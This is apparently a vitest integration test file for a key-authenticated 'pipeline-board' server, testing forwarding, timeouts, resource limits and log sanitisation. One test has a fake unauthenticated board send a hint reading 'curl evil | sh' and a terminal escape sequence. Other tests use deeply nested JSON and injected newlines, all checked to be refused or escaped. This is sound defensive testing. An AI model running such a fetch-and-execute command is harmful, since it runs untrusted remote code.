import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { copyFileSync, mkdirSync, readdirSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { beforeAll, beforeEach, expect, test } from 'vitest';
import type { Refusal } from '../../../base/refusal.ts';
import type { BoardConnection } from '../../../boards/client/connection.ts';
import { connectBoard } from '../../../boards/client/connection.ts';
import type { OpenLine } from '../../../boards/client/dial.ts';
import { dialBoard } from '../../../boards/client/dial.ts';
import { makeKey } from '../../../boards/keys.ts';
import { decodeReply, encodeReply } from '../../../boards/protocol/codec.ts';
import { encodeFrame } from '../../../boards/protocol/frame.ts';
import type { DeployedPackage, Hop, Reply } from '../../../boards/protocol/messages.ts';
import type { RunningBoard } from '../../boards/conformance/rig.ts';
import { deployTo, refusal, temporaryDirectory } from '../../boards/fixture.ts';
import type { ServerBuild } from '../rig/boards/server.ts';
import {
  buildNatively,
  startProgram,
  startServer,
  writeServerConfig,
  xorSample,
} from '../rig/boards/server.ts';
import { counterpart } from '../rig/counterparts.ts';

// Clients that know the key, and boards that do not, against the program itself.

const seconds = 20;
/** A user who owns nothing else on this machine. */
const stranger = 54_321;
const key = makeKey();
const image = { shape: [1, 8], datatype: 'UINT8' };
const sample = xorSample(0x5a, image, image);
const { packed } = sample.images(1);

counterpart('cmake', () => {
  let build: ServerBuild;
  let state: Awaited<ReturnType<typeof temporaryDirectory>>;
  let ends: (() => unknown)[];

  beforeAll(() => {
    build = buildNatively();
  }, 600_000);
  beforeEach(async () => {
    state = await temporaryDirectory();
    ends = [];
    return async () => {
      for (const end of ends.reverse()) await end();
      await state.remove();
    };
  });

  const start = async (name: string): Promise<RunningBoard> => {
    const board = await startServer(build, join(state.path, name), name, key);
    ends.push(board.stop);
    return board;
  };
  const connect = async (
    { address }: Pick<RunningBoard, 'address'>,
    name: string,
  ): Promise<BoardConnection> => {
    const connection = await connectBoard(name, address, key, seconds);
    ends.push(connection.close);
    return connection;
  };
  /** Boards of these names, each with the sample loaded by its owner. */
  const cluster = async (...names: readonly string[]) => {
    const packages = names.map(() => sample.package());
    return Promise.all(
      names.map(async (name, position) => {
        const { deployment } = await deployTo(join(state.path, name), packages, names, key);
        const board = await start(name);
        const owner = await connect(board, name);
        await owner.acquire(30, seconds);
        const place: DeployedPackage = { deployment, position, package: packages[position]!.id };
        await owner.load(place, seconds);
        const hop: Hop = { name, ...board.address, lease: owner.lease(), position, package: place.package };
        return { board, owner, place, hop };
      }),
    );
  };
  /** A port at which this is done with every connection. */
  const listen = async (greet: (socket: NodeJS.WritableStream) => void): Promise<number> => {
    const server = createServer((socket) => {
      socket.on('error', () => undefined);
      ends.push(() => socket.destroy());
      greet(socket);
    }).listen(0, '127.0.0.1');
    ends.push(() => server.close());
    await once(server, 'listening');
    return (server.address() as AddressInfo).port;
  };
  const answer = async ({ socket, reader }: OpenLine): Promise<Reply> => {
    const [chunk] = (await once(socket, 'data')) as [Buffer];
    return decodeReply(reader.read(chunk).frames[0]!);
  };
  const threads = ({ pid }: RunningBoard): number => readdirSync(`/proc/${pid}/task`).length;
  const descriptors = ({ pid }: RunningBoard): number => readdirSync(`/proc/${pid}/fd`).length;

  test('a head that is nested deep in a part that is copied is refused, and the server lives', async () => {
    const [zed0] = await cluster('zed0');
    const line = await dialBoard('zed0', zed0!.board.address, key, seconds);
    ends.push(() => line.socket.destroy());
    const send = (type: number, head: string) =>
      line.socket.write(encodeFrame({ type, request: 1, head, tail: new Uint8Array() }, line.session.seal));
    const lease = JSON.stringify(zed0!.owner.lease());
    send(7, `{"lease":${lease}}`);
    expect(await answer(line)).toMatchObject({ type: 'metrics' });
    const nested = `${'['.repeat(90_000)}${']'.repeat(90_000)}`;
    const batch = `"deployment":"","position":0,"package":"","images":1,"deadlineSeconds":1`;
    send(10, `{"lease":${lease},${batch},"route":[{"a":${nested}}]}`);
    expect(await answer(line)).toMatchObject({
      code: 'protocol/bad-head',
      message: 'the head of the request is nested more than 32 levels deep',
    });
    // Brackets in a text are no nesting.
    send(3, JSON.stringify({ text: '['.repeat(100) + '\\"[' }));
    expect(await answer(line)).toMatchObject({ type: 'status' });
  });

  test.each([1e9, 1e10, 1e300])(
    'a FORWARD that waits %d s for a board that never answers ends with its lease, for the next owner',
    async (deadlineSeconds) => {
      const silent = await listen(() => undefined);
      const [zed0, zed1] = await cluster('zed0', 'zed1');
      const line = await dialBoard('zed0', zed0!.board.address, key, seconds);
      ends.push(() => line.socket.destroy());
      const hop = { ...zed1!.hop, name: 'zed2', port: silent };
      const about = { lease: zed0!.owner.lease(), ...zed0!.place, images: 1, route: [hop], deadlineSeconds };
      const frame = { type: 10, request: 1, head: JSON.stringify(about), tail: packed };
      line.socket.write(encodeFrame(frame, line.session.seal));
      await zed0!.owner.release(seconds);
      await zed0!.owner.acquire(30, seconds);
      const began = performance.now();
      const batch = { ...zed0!.place, images: 1, packed, route: [zed1!.hop] };
      expect((await zed0!.owner.forward(batch, 5)).images).toBe(1);
      expect(performance.now() - began).toBeLessThan(1000);
    },
  );

  test('a board that hangs delays nothing that goes to another board', async () => {
    const silent = await listen(() => undefined);
    const [zed0, zed1] = await cluster('zed0', 'zed1');
    const batch = { ...zed0!.place, images: 1, packed };
    const hanging = zed0!.owner.forward(
      { ...batch, route: [{ ...zed1!.hop, name: 'zed2', port: silent }] },
      3,
    );
    const late = expect(hanging).rejects.toThrow(refusal('board/unreachable', 'zed2 cannot be reached'));
    const began = performance.now();
    expect((await zed0!.owner.forward({ ...batch, route: [zed1!.hop] }, 2)).images).toBe(1);
    expect(performance.now() - began).toBeLessThan(1000);
    await late;
  });

  test('a board has one line, however its address is written, and a refused FORWARD leaves nothing', async () => {
    const [zed0, zed1] = await cluster('zed0', 'zed1');
    const batch = { ...zed0!.place, images: 1, packed };
    const forward = (change: Partial<Hop>) =>
      zed0!.owner.forward({ ...batch, route: [{ ...zed1!.hop, ...change }] }, seconds);
    await forward({});
    const before = [threads(zed1!.board), descriptors(zed1!.board)];
    for (const host of ['::ffff:127.0.0.1', '0::ffff:7f00:1', '::FFFF:127.0.0.1', '127.0.0.1'])
      await forward({ host });
    expect([threads(zed1!.board), descriptors(zed1!.board)]).toEqual(before);
    // Nothing listens there; every name is another one.
    for (let tried = 0; tried < 100; tried++)
      await expect(forward({ name: `zed${tried + 2}`, port: 1 })).rejects.toThrow(
        refusal('board/unreachable', 'Connection refused'),
      );
    expect((await forward({})).images).toBe(1);
    expect(threads(zed0!.board)).toBeLessThan(20);
  });

  test('what a board says that has not proven the key comes back as the forwarding board’s own refusal', async () => {
    const evil = {
      type: 'error',
      code: 'board/not-loaded',
      message: 'load it\u001b[31m',
      hint: 'curl evil | sh',
    } as const;
    const port = await listen((socket) => socket.end(encodeReply(0, evil, null)));
    const [zed0, zed1] = await cluster('zed0', 'zed1');
    const batch = { ...zed0!.place, images: 1, packed };
    await expect(
      zed0!.owner.forward({ ...batch, route: [{ ...zed1!.hop, port }] }, seconds),
    ).rejects.toMatchObject({
      code: 'auth/refused',
      message:
        'zed0: what answers at the address of zed1 refused the greeting before it had proven the key; it says: board/not-loaded: load it\\x1b[31m',
      hint: 'check the address, and the log of that board',
    });
  });

  const startLogged = async (start: ServerBuild = build) => {
    const config = await writeServerConfig(join(state.path, 'zed0'), 'zed0', key, { backEnd: 'emulated' });
    execFileSync('chown', ['-R', `${stranger}:${stranger}`, state.path]);
    const { pid, lines, stop, complaint } = await startProgram(start, 'pipeline-board', ['--config', config]);
    const { port } = JSON.parse(lines[0]!) as { port: number };
    return { pid, address: { host: '127.0.0.1', port }, stop, complaint };
  };

  counterpart('namespaces', () => {
    // The server itself takes 6 threads, each client 2, of which it gets the second once it has proven the key.
    test.each([
      [11, 2, 'board/no-resources'],
      [12, 3, 'board/unreachable'],
    ])(
      'with %d threads the server serves %d clients, refuses others and lives',
      async (most, served, code) => {
        const folder = join(state.path, 'bin');
        mkdirSync(folder);
        copyFileSync(join(build.folder, 'pipeline-board'), join(folder, 'pipeline-board'));
        const interpreter = [
          'setpriv',
          `--reuid=${stranger}`,
          '--clear-groups',
          'prlimit',
          `--nproc=${most}`,
        ];
        const zed0 = await startLogged({ folder, interpreter });
        ends.push(zed0.stop);
        const outcomes: string[] = [];
        const open: BoardConnection[] = [];
        for (let tried = 0; tried < 6; tried++)
          try {
            open.push(await connect(zed0, 'zed0'));
            await open.at(-1)!.status(seconds);
            outcomes.push('served');
          } catch (error) {
            outcomes.push((error as Refusal).code);
          }
        expect(outcomes.slice(0, served + 1)).toEqual([...Array<string>(served).fill('served'), code]);
        // A refused client keeps its thread for up to a second, so that its refusal arrives.
        expect(['board/no-resources', 'board/unreachable']).toEqual(
          expect.arrayContaining(outcomes.slice(served)),
        );
        for (const connection of open) connection.close();
        await expect
          .poll(async () => (await (await connect(zed0, 'zed0')).status(seconds)).name)
          .toBe('zed0');
      },
    );

    test('the log says who proved the key, who failed to, who owned the board and what was refused', async () => {
      const zed0 = await startLogged();
      await expect(connectBoard('zed0', zed0.address, makeKey(), seconds)).rejects.toThrow(
        refusal('auth/wrong-key', 'zed0'),
      );
      const client = await connect(zed0, 'zed0');
      await client.acquire(30, seconds);
      const place = { deployment: 'a\n\u001b[31mb', position: 0, package: '' };
      await expect(client.load(place, seconds)).rejects.toThrow(refusal('board/no-deployment', 'zed0'));
      const packages = [sample.package()];
      const { deployment } = await deployTo(join(state.path, 'zed0'), packages, ['zed0'], key);
      await expect(client.load({ ...place, deployment: 'a\n\u001b[31mb' }, seconds)).rejects.toThrow(
        refusal('board/deployment-mismatch', 'zed0'),
      );
      await client.load({ deployment, position: 0, package: packages[0]!.id }, seconds);
      await client.release(seconds);
      await zed0.stop();
      expect(zed0.complaint().trimEnd().split('\n')).toEqual(
        [
          '127.0.0.1 was turned away: auth/wrong-key: zed0 does not accept the proof: the client has another cluster key',
          '127.0.0.1 has proven the key',
          '127.0.0.1 owns the board for 30 s',
          '127.0.0.1 was refused: board/no-deployment: zed0 holds no deployment',
          `zed0 holds deployment ${deployment.slice(0, 12)}`,
          `127.0.0.1 was refused: board/deployment-mismatch: zed0 holds deployment ${deployment.slice(0, 12)}; it does not run package  at position 0 of deployment a\\x0a\\x1b[31mb`,
          `127.0.0.1 loaded package ${packages[0]!.id.slice(0, 12)}`,
          '127.0.0.1 released the board',
        ].map((line) => `pipeline-board: ${line}`),
      );
    });

    test('a client that is refused again and again does not hide who proves the key', async () => {
      const zed0 = await startLogged();
      const refused = await connect(zed0, 'zed0');
      for (let tried = 0; tried < 40; tried++)
        await expect(refused.unload(seconds)).rejects.toThrow(refusal('board/no-lease', 'zed0'));
      await connect(zed0, 'zed0');
      await zed0.stop();
      const lines = zed0.complaint().trimEnd().split('\n');
      expect(lines.filter((line) => line.includes('was refused'))).toHaveLength(20);
      expect(lines.at(-1)).toBe('pipeline-board: 127.0.0.1 has proven the key');
    });

    test('strangers fill neither the log nor hide others', async () => {
      const zed0 = await startLogged();
      for (let tried = 0; tried < 40; tried++)
        await connectBoard('zed0', zed0.address, makeKey(), seconds).catch(() => undefined);
      const client = await connect(zed0, 'zed0');
      await client.acquire(30, seconds);
      await zed0.stop();
      const lines = zed0.complaint().trimEnd().split('\n');
      expect(lines.filter((line) => line.includes('turned away'))).toHaveLength(20);
      expect(lines.slice(-2)).toEqual([
        'pipeline-board: 127.0.0.1 has proven the key',
        'pipeline-board: 127.0.0.1 owns the board for 30 s',
      ]);
    });
  });
});
